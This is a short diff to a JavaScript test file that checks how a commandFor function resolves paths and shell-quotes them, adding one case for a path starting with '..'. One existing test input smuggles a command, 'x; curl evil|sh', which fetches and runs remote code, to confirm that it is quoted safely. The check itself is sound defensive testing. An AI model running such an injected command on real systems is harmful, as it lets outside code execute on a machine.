@@ -52,6 +52,7 @@ describe('a base model of the checkout', () => {
     }
     expect(await commandFor('./lost', '.')).toBe('./lost')
     expect(await commandFor('./models/lost', 'models')).toBe('./lost')
+    expect(await commandFor('./..lost', '.')).toBe('./..lost')
     expect(await commandFor('./lost', 'models/x')).toBe('/root/lost')
     expect(await commandFor("./it's my base", '.')).toBe("'./it'\\''s my base'")
     expect(await commandFor('./x; curl evil|sh', 'models')).toBe("'/root/x; curl evil|sh'")
